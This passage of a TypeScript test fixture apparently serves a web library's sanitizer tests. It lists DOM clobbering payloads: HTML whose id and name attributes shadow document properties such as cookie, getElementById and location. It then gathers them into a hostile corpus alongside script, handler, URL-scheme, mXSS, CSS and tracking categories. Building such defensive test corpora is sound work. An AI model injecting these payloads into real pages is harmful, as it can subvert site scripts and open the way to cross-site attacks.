      `<img name="getElementById" src="/x.png" alt=""><img name="querySelector" alt=""><img name="createElement" alt="">`,
  },
  {
    id: 'clob-form-cookie',
    note: 'form id=cookie with inputs',
    clobbers: ['cookie'],
    value: () => `<form id="cookie" name="cookie"><input name="value"></form>`,
  },
  {
    id: 'clob-embed-defaultview',
    note: 'embed and object names on document',
    clobbers: ['defaultView', 'baseURI'],
    value: () => `<embed name="defaultView"><object name="baseURI"></object>`,
  },
  {
    id: 'clob-img-id-name',
    note: 'img with id and name (both count for document)',
    clobbers: ['title', 'body', 'head'],
    value: () =>
      `<img id="title" name="title" alt=""><img id="body" name="body" alt=""><img id="head" name="head" alt="">`,
  },
  {
    id: 'clob-window-globals',
    note: "ids named after our globals and Lit's (own window properties, which named access never shadows)",
    inertAsParsed: true,
    clobbers: ['__folioPwned', 'litHtmlVersions', 'customElements', 'trustedTypes', 'fetch'],
    value: () =>
      `<a id="__folioPwned" href="#a">a</a><p id="litHtmlVersions">l</p><span id="customElements">c</span><b id="trustedTypes">t</b><i id="fetch">f</i>`,
  },
  {
    id: 'clob-collection',
    note: 'two images with one name make document.cookie an HTMLCollection',
    clobbers: ['cookie'],
    value: () => `<img name="cookie" alt=""><img name="cookie" id="cookie" alt="">`,
  },
  {
    id: 'clob-window-storage',
    note: 'anchors named after window storage (own window properties)',
    inertAsParsed: true,
    clobbers: ['sessionStorage'],
    value: () => `<a id="sessionStorage" href="#s">1</a><a id="sessionStorage" name="getItem" href="#t">2</a>`,
  },
  {
    id: 'clob-document-props',
    note: 'names of document properties our code reads',
    clobbers: ['documentElement', 'currentScript', 'activeElement', 'forms', 'images', 'adoptedStyleSheets'],
    value: () =>
      `<img name="documentElement" alt=""><img name="currentScript" alt=""><img name="activeElement" alt=""><img name="forms" alt=""><img name="images" alt=""><img name="adoptedStyleSheets" alt="">`,
  },
  {
    id: 'clob-location',
    note: 'location (unforgeable: must stay the real one)',
    clobbers: ['location'],
    value: () => `<img name="location" id="location" alt="">`,
  },
  {
    id: 'clob-section-heading-id',
    note: 'section heading ids named after document members (an <hN> id reaches only window, where it shadows nothing)',
    inertAsParsed: true,
    clobbers: ['getElementById'],
    value: () => `<folio-section-heading anchor-id="getElementById">钩子</folio-section-heading><h2 id="cookie">c</h2>`,
  },
  {
    id: 'clob-iframe-name',
    note: 'an iframe named after a document property',
    clobbers: ['defaultView'],
    value: () => `<iframe name="defaultView" src="about:blank"></iframe>`,
  },
]);

export const HOSTILE_CORPUS: readonly HostileEntry[] = [
  ...SCRIPT,
  ...HANDLERS,
  ...URL_SCHEMES,
  ...MXSS,
  ...SVG_MATHML,
  ...CSS,
  ...MEDIA_AND_EMBEDS,
  ...TRACKING,
  ...CLOBBERING,
];

export const HOSTILE_MARKUP = HOSTILE_CORPUS.filter((e) => e.kind === 'markup');
export const HOSTILE_URLS = HOSTILE_CORPUS.filter((e) => e.kind === 'url');
